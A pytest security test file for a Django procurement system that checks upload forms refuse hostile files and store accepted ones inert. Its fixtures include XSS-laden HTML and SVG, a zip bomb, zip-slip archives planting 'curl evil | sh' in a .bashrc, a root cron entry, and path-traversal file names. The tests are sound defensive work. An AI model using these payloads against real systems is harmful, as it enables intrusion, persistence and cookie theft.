"""Hostile files (issue 9 part 4): every upload entry point refuses what it must with a clear message and keeps
nothing of it, and what it accepts is stored inert (under its SHA-256, never under the name the uploader chose)
and served back only as a download with nosniff, a type sniffed from the bytes and a name whose extension
matches them. Never rendered inline as HTML or SVG.

Pasal 5a-b of Perbup Ketapang 8/2011 forbid disrupting the system and manipulating data; a file is the easiest
way in. Table-driven: the hostile files are declared once (HOSTILE, INERT) and run against the storage helper
for each accepted-type profile, and through the real forms of every upload page (ENTRY_POINTS).
"""

import hashlib
import io
import itertools
import zipfile
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import translation

from conftest import give_totp, sample_item_data
from eproc.accounts.models import User
from eproc.evaluation import envelope_reader
from eproc.files import (
    SCANNED_DOCUMENT_KINDS,
    attachment_response,
    safe_download_name,
    save_content_addressed,
    store_upload,
)
from tests.security.test_permission_matrix import PERSONAS, demo_objects  # noqa: F401 (the demo world fixture)

LIMIT = 64 * 1024  # the tests lower every size limit to this, so "oversized" needs no large file

PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n"
HTML = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
POLYGLOT_PDF = b"%PDF-1.4\n<html><body><script>alert(document.domain)</script></body></html>\n%%EOF\n"
EXE = b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 120


def _zip(entries: dict, compression=zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in entries.items():
            archive.writestr(zipfile.ZipInfo(name), data, compress_type=compression)
    return buffer.getvalue()


def _zip_bomb() -> bytes:
    """64 MiB of zeros in about 64 KB: a ratio of about 1000, as a deflate bomb has (42.zip nests this)."""
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
        archive.open("kosong.bin", "w") as entry,
    ):
        for _ in range(64):
            entry.write(b"\x00" * (1 << 20))
    return buffer.getvalue()


ZIP_BOMB = _zip_bomb()
ZIP_SLIP = _zip({"dokumen.pdf": PDF, "../../../../home/penyedia/.bashrc": b"curl evil | sh\n"})
ZIP_ABSOLUTE = _zip({"/etc/cron.d/evil": b"* * * * * root sh\n"})
DAMAGED_ZIP = b"PK\x03\x04" + HTML  # the ZIP magic number and nothing of a ZIP after it
GOOD_ZIP = _zip({"RAB.xlsx": b"kuantitas " * 200, "gambar.pdf": PDF})

# name, file name, bytes, the profiles that refuse it, a phrase of the (English) message
HOSTILE = [
    ("zero-byte", "kosong.pdf", b"", {"scanned", "tender"}, "empty"),
    ("oversized", "besar.pdf", PDF + b"0" * LIMIT, {"scanned", "tender"}, "limit"),
    ("html-with-script", "surat.html", HTML, {"scanned", "tender"}, "not accepted"),
    ("html-named-pdf", "surat.pdf", HTML, {"scanned", "tender"}, "not accepted"),
    ("svg-with-script", "logo.svg", SVG, {"scanned", "tender"}, "not accepted"),
    ("svg-named-png", "logo.png", SVG, {"scanned", "tender"}, "not accepted"),
    ("executable-named-pdf", "faktur.pdf", EXE, {"scanned", "tender"}, "not accepted"),
    ("zip-bomb", "gambar.zip", ZIP_BOMB, {"scanned", "tender"}, None),
    ("zip-slip", "dokumen.zip", ZIP_SLIP, {"scanned", "tender"}, None),
    ("zip-absolute-path", "dokumen.zip", ZIP_ABSOLUTE, {"scanned", "tender"}, None),
    ("damaged-zip", "dokumen.zip", DAMAGED_ZIP, {"scanned", "tender"}, None),
]
# The ZIP cases are refused by type where ZIPs are not accepted at all, and for what they are where they are.
ZIP_MESSAGES = {
    "zip-bomb": "ZIP bomb",
    "zip-slip": "unsafe path",
    "zip-absolute-path": "unsafe path",
    "damaged-zip": "damaged",
}

# name, file name as sent, bytes, the kind it is stored as, the download name it must be offered under
INERT = [
    ("polyglot-pdf", "laporan.pdf", POLYGLOT_PDF, "pdf", "laporan.pdf"),
    ("pdf-named-html", "laporan.html", PDF + b"% html", "pdf", "laporan.pdf"),
    ("pdf-named-svg", "gambar.svg", PDF + b"% svg", "pdf", "gambar.pdf"),
    ("traversal-name", "../../../etc/passwd", PDF + b"% passwd", "pdf", "passwd.pdf"),
    ("absolute-name", "/etc/shadow.pdf", PDF + b"% shadow", "pdf", "shadow.pdf"),
    ("windows-traversal-name", "..\\..\\boot.ini.pdf", PDF + b"% ini", "pdf", "boot.ini.pdf"),
    ("nul-byte-name", "surat.pdf\x00.html", PDF + b"% nul", "pdf", "surat.pdf.pdf"),
]
PROFILES = {"scanned": SCANNED_DOCUMENT_KINDS, "tender": ("pdf", "zip")}


@pytest.fixture(autouse=True)
def _english():
    """Messages are checked in English; the Indonesian default is checked once below."""
    with translation.override("en"):
        yield


def _files_under(root: Path) -> set:
    return {str(path.relative_to(root)) for path in root.rglob("*") if path.is_file()} if root.exists() else set()


def _message_of(profile: str, case: str, phrase: str | None) -> str:
    if phrase is not None:
        return phrase
    return ZIP_MESSAGES[case] if "zip" in PROFILES[profile] else "not accepted"


# --- The storage helper every upload goes through ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("profile", "case", "name", "data", "phrase"),
    [
        (profile, case, name, data, phrase)
        for (case, name, data, refused_by, phrase), profile in itertools.product(HOSTILE, PROFILES)
        if profile in refused_by
    ],
    ids=lambda value: value if isinstance(value, str) and len(value) < 30 else "",
)
def test_the_storage_helper_refuses_a_hostile_file_and_writes_nothing(settings, profile, case, name, data, phrase):
    media = Path(settings.MEDIA_ROOT)
    upload = SimpleUploadedFile(name, data, content_type="application/pdf")
    with pytest.raises(ValidationError) as refused:
        store_upload(upload, folder="uji", allowed_kinds=PROFILES[profile], max_bytes=LIMIT)
    assert _message_of(profile, case, phrase) in " ".join(refused.value.messages)
    assert _files_under(media) == set()


@pytest.mark.parametrize(("case", "name", "data", "kind", "download"), INERT, ids=[row[0] for row in INERT])
def test_the_storage_helper_stores_an_accepted_file_inert_under_its_hash(settings, case, name, data, kind, download):
    media = Path(settings.MEDIA_ROOT)
    stored = store_upload(SimpleUploadedFile(name, data), folder="uji", max_bytes=LIMIT)
    sha256 = hashlib.sha256(data).hexdigest()
    assert stored.storage_name == f"uji/{sha256[:2]}/{sha256}.pdf"
    assert _files_under(media) == {stored.storage_name}
    assert (media / stored.storage_name).read_bytes() == data
    assert "/" not in stored.original_name and "\\" not in stored.original_name and "\x00" not in stored.original_name
    assert safe_download_name(stored.original_name, stored.kind) == download


def test_a_refusal_speaks_indonesian_by_default(settings):
    with translation.override("id"), pytest.raises(ValidationError) as refused:
        store_upload(SimpleUploadedFile("surat.html", HTML), folder="uji", max_bytes=LIMIT)
    assert "Jenis berkas ini tidak diterima" in " ".join(refused.value.messages)


def test_a_tender_zip_of_ordinary_documents_is_accepted(settings):
    stored = store_upload(
        SimpleUploadedFile("dokumen.zip", GOOD_ZIP), folder="uji", allowed_kinds=("pdf", "zip"), max_bytes=LIMIT
    )
    assert stored.kind == "zip"
    assert safe_download_name("Dokumen Pemilihan.docx", "zip") == "Dokumen Pemilihan.docx"  # office files are ZIPs


def test_a_download_is_an_attachment_with_nosniff_and_the_sniffed_type_whatever_its_name(settings):
    stored = store_upload(SimpleUploadedFile("x.pdf", POLYGLOT_PDF), folder="uji", max_bytes=LIMIT)
    from django.core.files.storage import default_storage

    with default_storage.open(stored.storage_name, "rb") as handle:
        response = attachment_response(handle, download_name="<script>x</script>.html")
        assert response["Content-Type"] == "application/pdf"
        assert response["Content-Disposition"].startswith("attachment;")
        assert 'filename="script.pdf"' in response["Content-Disposition"]
        assert response["X-Content-Type-Options"] == "nosniff"
        assert "sandbox" in response["Content-Security-Policy"]


def test_a_partial_file_left_by_a_crash_is_replaced_not_trusted(settings):
    """A server killed while writing used to leave a truncated file under the content-addressed name, which the
    next upload of the same content then trusted because the name existed."""
    media = Path(settings.MEDIA_ROOT)
    sha256 = hashlib.sha256(PDF).hexdigest()
    name = f"uji/{sha256[:2]}/{sha256}.pdf"
    (media / name).parent.mkdir(parents=True)
    (media / name).write_bytes(PDF[:10])
    store_upload(SimpleUploadedFile("x.pdf", PDF), folder="uji", max_bytes=LIMIT)
    assert (media / name).read_bytes() == PDF
    assert _files_under(media) == {name}  # no temporary file left beside it
    save_content_addressed(name, io.BytesIO(PDF), size=len(PDF))  # the same content again: kept as it is
    assert (media / name).read_bytes() == PDF


def test_an_opened_bid_that_is_a_zip_bomb_is_listed_without_being_unpacked(tmp_path):
    """The opened bid is the only ZIP eproc reads; reading a bomb's entries would hold the request for hours."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("penawaran.json", '{"format": "eproc-bid/1", "price": "1.000.000"}')
    bomb = zipfile.ZipFile(io.BytesIO(ZIP_BOMB))
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(bomb.infolist()[0], bomb.read("kosong.bin"))
    path = tmp_path / "penawaran.zip"
    path.write_bytes(buffer.getvalue())
    result = envelope_reader.read(path, envelope_kind="single")
    assert result.error == ""
    assert result.price is not None
    assert {entry["name"]: entry["sha256"] for entry in result.files}["kosong.bin"] == ""


@pytest.mark.django_db
def test_a_complaint_with_one_hostile_attachment_among_good_ones_leaves_nothing_stored(settings):
    from eproc.complaints.models import Complaint
    from eproc.complaints.services import file_complaint

    with pytest.raises(ValidationError):
        file_complaint(
            about="service",
            title="Uji",
            description="Lampiran kedua berbahaya",
            attachments=[SimpleUploadedFile("bukti.pdf", PDF), SimpleUploadedFile("bukti.svg", SVG)],
        )
    assert not Complaint.objects.exists()
    assert _files_under(Path(settings.MEDIA_ROOT)) == set()


# --- Every upload page, through its real form -------------------------------------------------------------------


def _multipart(fields: dict, file_field: str, file_name: str, data: bytes) -> tuple[bytes, str]:
    """A multipart body written by hand, so the file name reaches the server exactly as a hostile client sends
    it (the test client would clean it first)."""
    boundary = "----eproc-uji-" + hashlib.sha256(data + file_name.encode()).hexdigest()[:16]
    parts = []
    for key, value in fields.items():
        parts.append(f'--{boundary}\r\nContent-Disposition: form-data; name="{key}"\r\n\r\n{value}\r\n'.encode())
    parts.append(
        f'--{boundary}\r\nContent-Disposition: form-data; name="{file_field}"; filename="'.encode()
        + file_name.encode("utf-8", "surrogateescape")
        + b'"\r\nContent-Type: application/pdf\r\n\r\n'
        + data
        + b"\r\n"
    )
    parts.append(f"--{boundary}--\r\n".encode())
    return b"".join(parts), f"multipart/form-data; boundary={boundary}"


class EntryPoint:
    def __init__(self, name, persona, url, fields, file_field, rows, download=None, profile="scanned"):
        self.name, self.persona, self.url, self.fields = name, persona, url, fields
        self.file_field, self.rows, self.download, self.profile = file_field, rows, download, profile


def _entry_points(objects):
    from eproc.complaints.models import ComplaintAttachment
    from eproc.organizations.models import Appointment
    from eproc.tenders.models import TenderDocument
    from eproc.training.models import Material
    from eproc.vendors.models import Sanction, Vendor, VendorDocument
    from eproc.vendors.requirements import sections_for

    counter = itertools.count()
    akta = next(section for section in sections_for(Vendor.Kind.BUSINESS) if section.key == "akta")
    return [
        EntryPoint(
            "complaint attachment (public form, Pasal 14)",
            "anonymous",
            reverse("complaints:file"),
            lambda: {"about": "service", "title": "Uji berkas", "description": "Uji berkas berbahaya"},
            "attachments",
            ComplaintAttachment.objects,
            lambda row: reverse("complaints:attachment", kwargs={"public_id": row.public_id}),
        ),
        EntryPoint(
            "training material",
            "trainer",
            reverse("training:material_upload", kwargs={"public_id": objects["training_session"]}),
            dict,
            "file",
            Material.objects,
            lambda row: reverse("training:material_download", kwargs={"public_id": row.public_id}),
        ),
        EntryPoint(
            "appointment decree (SK)",
            "lpse_admin",
            reverse("organizations:appointment_create", kwargs={"agency_public_id": objects["agency"]}),
            lambda: {
                "email": f"uji{next(counter)}@ketapang.test",
                "full_name": "Pegawai Uji",
                "role": "ppk",
                "work_unit": objects["work_unit"],
                "decree_number": f"SK/UJI/{next(counter)}",
                "decree_date": "2026-01-05",
                "valid_from": "2026-01-05",
            },
            "decree_file",
            Appointment.objects,
            lambda row: reverse("organizations:appointment_decree", kwargs={"public_id": row.public_id}),
        ),
        EntryPoint(
            "vendor qualification document",
            "vendor",
            reverse("vendors:item", kwargs={"key": "akta", "item_id": objects["vendor_item"]}),
            lambda: sample_item_data(akta),
            "document",
            VendorDocument.objects,
            lambda row: reverse("vendors:document", kwargs={"public_id": row.public_id}),
        ),
        EntryPoint(
            "sanction decree",
            "lpse_admin",
            reverse("vendors:sanction", kwargs={"public_id": objects["pending_vendor"]}),
            lambda: {
                "kind": "suspension",
                "decree_number": f"SK/SANKSI/{next(counter)}",
                "decree_date": "2026-02-02",
                "starts_on": "2026-02-02",
                "reason": "Uji",
            },
            "decree_file",
            Sanction.objects,
            lambda row: reverse("vendors:sanction_decree", kwargs={"public_id": row.public_id}),
        ),
        EntryPoint(
            "tender document",
            "pokja_a",
            reverse("tenders:add_document", kwargs={"public_id": objects["tender_draft"]}),
            lambda: {"kind": "dokumen_pengadaan", "title": f"Dokumen uji {next(counter)}"},
            "file",
            TenderDocument.objects,
            lambda row: reverse(
                "tenders:download", kwargs={"public_id": row.tender.public_id, "document_id": row.public_id}
            ),
            profile="tender",
        ),
    ]


def _client(persona):
    from allauth.mfa.models import Authenticator

    client = Client()
    client.cookies["django_language"] = "en"
    if PERSONAS[persona]:
        user = User.objects.get(email=PERSONAS[persona])
        if not Authenticator.objects.filter(user=user, type=Authenticator.Type.TOTP).exists():
            give_totp(user)
        client.force_login(user)
    return client


def _post(client, entry, name, data, address):
    body, content_type = _multipart(entry.fields(), entry.file_field, name, data)
    return client.post(entry.url, body, content_type=content_type, follow=True, REMOTE_ADDR=address)


@pytest.mark.django_db
def test_every_upload_page_refuses_hostile_files_and_serves_what_it_keeps_as_an_inert_download(
    demo_objects,  # noqa: F811
    settings,
    capsys,
):
    settings.EPROC_MAX_DECREE_BYTES = LIMIT
    settings.EPROC_MAX_TENDER_DOCUMENT_BYTES = LIMIT
    media = Path(settings.MEDIA_ROOT)
    addresses = (f"10.9.{n // 250}.{n % 250 + 1}" for n in itertools.count())  # the complaint form limits per IP
    problems, cases = [], 0
    for entry in _entry_points(demo_objects):
        client = _client(entry.persona)
        # The control: a plain PDF goes through this page, so a refusal below is the file's, not the form's.
        before = entry.rows.count()
        _post(client, entry, "kontrol.pdf", PDF + entry.name.encode(), next(addresses))
        if entry.rows.count() != before + 1:
            problems.append(f"{entry.name}: the control PDF was not accepted; the form data is wrong")
            continue
        for case, name, data, refused_by, phrase in HOSTILE:
            if entry.profile not in refused_by:
                continue
            cases += 1
            before, files_before = entry.rows.count(), _files_under(media)
            response = _post(client, entry, name, data, next(addresses))
            page = response.content.decode()
            if response.status_code >= 500 or entry.rows.count() != before:
                problems.append(f"{entry.name} / {case}: accepted ({response.status_code})")
            elif _files_under(media) != files_before:
                problems.append(f"{entry.name} / {case}: refused but left {_files_under(media) - files_before}")
            elif _message_of(entry.profile, case, phrase) not in page and not (
                case == "zero-byte" and "The submitted file is empty." in page
            ):
                problems.append(f"{entry.name} / {case}: refused without the message")
        for case, name, data, _kind, _download in INERT:
            cases += 1
            data = data + entry.name.encode()  # a new content each time, so a new row
            response = _post(client, entry, name, data, next(addresses))
            row = entry.rows.order_by("-pk").first()
            sha256 = hashlib.sha256(data).hexdigest()
            stored = getattr(row, "file", None) or row.decree_file
            if response.status_code >= 500 or not stored.name.endswith(f"/{sha256}.pdf"):
                problems.append(f"{entry.name} / {case}: not stored under its hash ({stored.name})")
                continue
            if (media / stored.name).read_bytes() != data:
                problems.append(f"{entry.name} / {case}: stored bytes differ")
            served = _client("lpse_admin" if entry.persona == "anonymous" else entry.persona).get(entry.download(row))
            disposition = served.get("Content-Disposition", "")
            if (
                served.status_code != 200
                or not disposition.startswith("attachment;")
                or served.get("X-Content-Type-Options") != "nosniff"
                or served["Content-Type"] != "application/pdf"
                or not disposition.rstrip('"').endswith(".pdf")
                or "/" in disposition.split("filename", 1)[1]
            ):
                problems.append(
                    f"{entry.name} / {case}: served as {served.status_code} {served.get('Content-Type')} {disposition}"
                )
    with capsys.disabled():
        print(f"\nhostile files: {cases} cases over {len(_entry_points(demo_objects))} upload pages")
    assert problems == []
